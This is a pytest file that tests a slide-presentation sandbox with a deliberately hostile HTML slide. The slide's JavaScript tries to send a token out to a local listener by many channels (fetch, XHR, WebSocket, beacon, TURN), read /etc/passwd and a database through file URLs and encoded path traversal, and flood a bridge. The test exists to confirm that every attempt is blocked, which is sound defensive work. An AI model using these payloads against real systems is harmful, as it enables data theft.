"""A hostile deck against the slide sandbox: every way out it tries must be shut.

The deck's one slide tries, on load, what a slide did to the laptop before (issue 15):
read the database beside the content folder and /etc/passwd, send the server token to a
listener on 127.0.0.1 (WebSocket, fetch, XHR, beacon, image, stylesheet, script, frame,
preconnect, a TURN server over TCP, a new window), reach the Qt objects behind the
bridge, flood the bridge with 10,000 records, and navigate away. The listener is a plain
TCP socket started here that records every connection, so a request that got out counts
whatever protocol it spoke. Run alone: `pytest tests/ui/presenter/test_sandbox.py`.
"""

from __future__ import annotations

import json
import logging
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select

from app.edetail.package import import_package
from app.store.content import ClickstreamEvent
from app.store.database import Database
from app.ui.operations import Operations
from app.ui.views.presenter import sandbox as presenter_sandbox
from app.ui.views.presenter.presentation import Presenter
from tests.edetail.conftest import manifest, write_zip
from tests.ui.presenter.test_html_stage import run_js
from tests.ui.presenter.test_presentation import FakeClock, finish, ops, start

try:
    import PySide6.QtWebEngineWidgets  # noqa: F401
except ImportError as exc:  # pragma: no cover - depends on the machine
    pytest.skip(f"QtWebEngine cannot be imported here ({exc}); CI installs its libraries",
                allow_module_level=True)

pytestmark = [pytest.mark.gui, pytest.mark.qt_log_ignore(
    "QRhiGles2: Failed to create (temporary )?context", "Failed to create RHI for backend.*",
    "GPUInfo not initialized.*", ".*Not allowed to navigate.*", ".*Content-Security-Policy.*",
    ".*Refused to .*",
    ".*blocked.*", ".*Not allowed to load local resource.*", ".*net::ERR_.*",
    ".*WebSocket connection .* failed.*", ".*Failed to load resource.*",
    ".*Fetch API cannot load.*", ".*violates.*", ".*CORS.*")]
__all__ = ["ops"]

TOKEN = "srv-token-5f1e9c0d"
BRIDGE_CALLS = 10_000
#: Far above what the sandbox lets through in the seconds the flood takes, far below it.
MAX_RECORDS = 200


class Listener:
    """A TCP socket on 127.0.0.1 that accepts and remembers every connection, and a UDP
    socket on the same port number that remembers every datagram (STUN, TURN)."""

    def __init__(self) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(50)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.udp.settimeout(0.2)
        self.connections: list[bytes] = []
        self._stop = threading.Event()
        self._udp_thread = threading.Thread(target=self._receive, daemon=True)
        self._udp_thread.start()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _addr = self.sock.accept()
            except OSError:
                continue
            conn.settimeout(0.5)
            try:
                first = conn.recv(4096)
            except OSError:
                first = b""
            self.connections.append(first)
            conn.close()

    def _receive(self) -> None:
        while not self._stop.is_set():
            try:
                datagram, _addr = self.udp.recvfrom(65536)
            except OSError:
                continue
            self.connections.append(datagram)

    def close(self) -> None:
        self._stop.set()
        self._thread.join(2)
        self._udp_thread.join(2)
        self.sock.close()
        self.udp.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


def hostile_page(port: int, db_path: Path) -> bytes:
    out = f"http://127.0.0.1:{port}"
    depths = json.dumps(["../" * n + db_path.name for n in range(1, 8)])
    return f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>Hostile</title>
<link rel="preconnect" href="{out}/preconnect">
<link rel="dns-prefetch" href="{out}">
<link rel="prefetch" href="{out}/prefetch?t={TOKEN}">
<link rel="stylesheet" href="{out}/style.css?t={TOKEN}">
<script src="{out}/script.js?t={TOKEN}"></script>
<style>body {{ background: url("{out}/bg.png?t={TOKEN}") }}</style>
</head><body style="margin:0">
<img src="{out}/img.png?t={TOKEN}"><img src="file:///etc/passwd">
<iframe src="{out}/frame?t={TOKEN}"></iframe>
<script>
var results = window.results = {{}};
function xhr(url) {{
  return new Promise(function (resolve) {{
    try {{
      var r = new XMLHttpRequest();
      r.open('GET', url);
      r.onload = function () {{
        resolve(r.responseText.length ? 'read ' + r.responseText.length : 'empty');
      }};
      r.onerror = function () {{ resolve('blocked'); }};
      r.send();
    }} catch (e) {{ resolve('blocked'); }}
  }});
}}
async function get(url) {{
  try {{
    var r = await fetch(url);
    if (!r.ok) {{ return 'status ' + r.status; }}
    return 'read ' + (await r.text()).length;
  }} catch (e) {{ return 'blocked'; }}
}}
function ws(url) {{
  return new Promise(function (resolve) {{
    try {{
      var s = new WebSocket(url);
      s.onopen = function () {{ s.send('{TOKEN}'); resolve('open'); }};
      s.onerror = function () {{ resolve('blocked'); }};
      setTimeout(function () {{ resolve('no answer'); }}, 3000);
    }} catch (e) {{ resolve('blocked'); }}
  }});
}}
async function turn() {{
  try {{
    var pc = new RTCPeerConnection({{iceServers: [
      {{urls: 'turn:127.0.0.1:{port}?transport=tcp', username: '{TOKEN}', credential: 'x'}},
      {{urls: 'turn:127.0.0.1:{port}', username: '{TOKEN}', credential: 'x'}},
      {{urls: 'stun:127.0.0.1:{port}'}}]}});
    pc.createDataChannel('x');
    await pc.setLocalDescription(await pc.createOffer());
    await new Promise(function (r) {{ setTimeout(r, 1500); }});
    pc.close();
    return 'tried';
  }} catch (e) {{ return 'blocked'; }}
}}
async function attack() {{
  var depths = {depths};
  for (var i = 0; i < depths.length; i++) {{
    results['db xhr ' + i] = await xhr(depths[i]);
    results['db fetch ' + i] = await get(depths[i]);
  }}
  results['db absolute'] = await xhr('file://{db_path.as_posix()}');
  results['encoded traversal'] = await get('%2e%2e/%2e%2e/%2e%2e/{db_path.name}');
  results['slash traversal'] = await get('/..%2f..%2f..%2f{db_path.name}');
  results['passwd xhr'] = await xhr('file:///etc/passwd');
  results['passwd fetch'] = await get('file:///etc/passwd');
  results['loopback fetch'] = await get('{out}/fetch?t={TOKEN}');
  results['loopback xhr'] = await xhr('{out}/xhr?t={TOKEN}');
  results['websocket'] = await ws('ws://127.0.0.1:{port}/?token={TOKEN}');
  results['beacon'] = navigator.sendBeacon('{out}/beacon', '{TOKEN}') ? 'queued' : 'blocked';
  results['turn'] = await turn();
  var w = null;
  try {{ w = window.open('{out}/window?t={TOKEN}'); }} catch (e) {{}}
  results['window'] = w ? 'opened' : 'blocked';
  results['qt'] = typeof qt;
  results['QWebChannel'] = typeof QWebChannel;
  results['deleteLater'] = typeof window.fieldrep.deleteLater
      + typeof com.veeva.clm.deleteLater;
  document.dispatchEvent(new CustomEvent('fieldrep:clm',
      {{detail: JSON.stringify(['deleteLater', []])}}));
  results['own json'] = await get('../../shared/data.json');
  com.veeva.clm.createRecord('Call_Clickstream_vod__c',
      {{Track_Element_Id_vod__c: 'huge', Answer_vod__c: 'x'.repeat(100000)}});
  for (var n = 0; n < {BRIDGE_CALLS}; n++) {{
    com.veeva.clm.createRecord('Call_Clickstream_vod__c',
        {{Track_Element_Id_vod__c: 'flood-' + n, Answer_vod__c: '{TOKEN}'}});
  }}
  window.done = true;
}}
attack();
</script></body></html>""".encode()


@pytest.fixture
def hostile_deck(ui_db: Database, tmp_path: Path, listener: Listener) -> str:
    data = manifest(slides=[
        {"id": "evil", "file": "slides/evil/index.html", "key_message": "CZ-1",
         "topic": "efficacy", "title": "Hostile"},
        {"id": "calm", "file": "slides/calm/index.html", "key_message": "CZ-2",
         "topic": "safety", "title": "Calm"}])
    members = {
        "slides/evil/index.html": hostile_page(listener.port, ui_db.path),
        "slides/calm/index.html": b"<!DOCTYPE html><title>Calm</title><p>calm</p>",
        "shared/data.json": b'{"ok": true}',
        "manifest.json": json.dumps(data).encode(),
    }
    return import_package(ui_db, write_zip(tmp_path / "hostile.zip", members)).presentation_id


def page_url(qtbot: Any, presenter: Presenter) -> str:
    return str(run_js(qtbot, presenter, "location.href"))


@pytest.mark.parametrize("policy", ["with", pytest.param("without", marks=pytest.mark.slow)])
def test_the_hostile_deck_gets_nothing_out(qtbot: Any, ops: Operations, ui_db: Database,
                                           hostile_deck: str, listener: Listener,
                                           caplog: pytest.LogCaptureFixture,
                                           monkeypatch: pytest.MonkeyPatch,
                                           policy: str) -> None:
    """Each wall holds on its own: `without` the Content-Security-Policy, the request
    interceptor and the navigation checks must stop the same attacks."""
    if policy == "without":
        monkeypatch.delitem(presenter_sandbox._HEADERS, b"Content-Security-Policy")
    caplog.set_level(logging.WARNING)
    presenter = start(qtbot, ops, hostile_deck, clock=FakeClock())
    stage = presenter.html
    assert stage is not None and stage.view is not None
    qtbot.waitUntil(lambda: stage.loaded, timeout=20_000)
    qtbot.waitUntil(lambda: run_js(qtbot, presenter, "window.done === true"),
                    timeout=60_000)
    results = json.loads(run_js(qtbot, presenter, "JSON.stringify(window.results)"))
    assert results.pop("own json") == "read 12"  # the deck's own files do load
    leaked = {name: outcome for name, outcome in results.items()
              if outcome.startswith(("read", "open"))}
    assert leaked == {}
    assert results["window"] == "blocked"
    # Any name on com.veeva.clm is a call the player answers (an unknown one with the
    # library's error result); none reaches the Qt object behind the channel.
    assert (results["qt"], results["QWebChannel"], results["deleteLater"]) == (
        "undefined", "undefined", "undefinedfunction")

    # Navigating away: refused, the slide stays where it was.
    here = page_url(qtbot, presenter)
    for target in (f"http://127.0.0.1:{listener.port}/away?t={TOKEN}", "file:///etc/passwd",
                   "data:text/html,<p>away</p>", "https://example.org/"):
        run_js(qtbot, presenter, f"location.href = {json.dumps(target)}; 1")
    qtbot.wait(500)
    assert page_url(qtbot, presenter) == here
    assert presenter.index == 0
    assert stage.page is not None
    assert f"http://127.0.0.1:{listener.port}/away" in stage.page.refused
    if policy == "without":  # what the policy stopped before, the interceptor stops now
        assert {f"http://127.0.0.1:{listener.port}/{name}"
                for name in ("img.png", "style.css", "script.js", "fetch", "xhr", "beacon")
                } <= set(stage.interceptor.blocked)
        assert f"ws://127.0.0.1:{listener.port}/" in stage.interceptor.blocked

    # The flood: a slide view gets its budget, the rest is dropped, logged once.
    ops.wait()
    with ui_db.read() as session:
        records = session.scalar(select(func.count()).select_from(ClickstreamEvent))
        huge = session.scalar(select(func.count()).select_from(ClickstreamEvent).where(
            ClickstreamEvent.track_element_id == "huge"))
    assert 1 <= (records or 0) <= MAX_RECORDS
    assert huge == 0  # an argument over the size limit is dropped, not written
    assert sum("calls a second" in r.getMessage() for r in caplog.records) == 1

    time.sleep(1.0)  # anything still on its way to the listener arrives
    assert listener.connections == []
    finish(qtbot, presenter)


def test_a_link_to_another_slide_moves_the_presenter(qtbot: Any, ops: Operations,
                                                     hostile_deck: str) -> None:
    presenter = start(qtbot, ops, hostile_deck, clock=FakeClock())
    stage = presenter.html
    assert stage is not None
    qtbot.waitUntil(lambda: stage.loaded, timeout=20_000)
    with qtbot.waitSignal(presenter.slide_changed) as moved:
        run_js(qtbot, presenter, "location.href = '../calm/index.html'; 1")
    assert moved.args == [1]
    qtbot.waitUntil(lambda: stage.loaded, timeout=20_000)
    assert page_url(qtbot, presenter).endswith("/slides/calm/index.html")
    finish(qtbot, presenter)
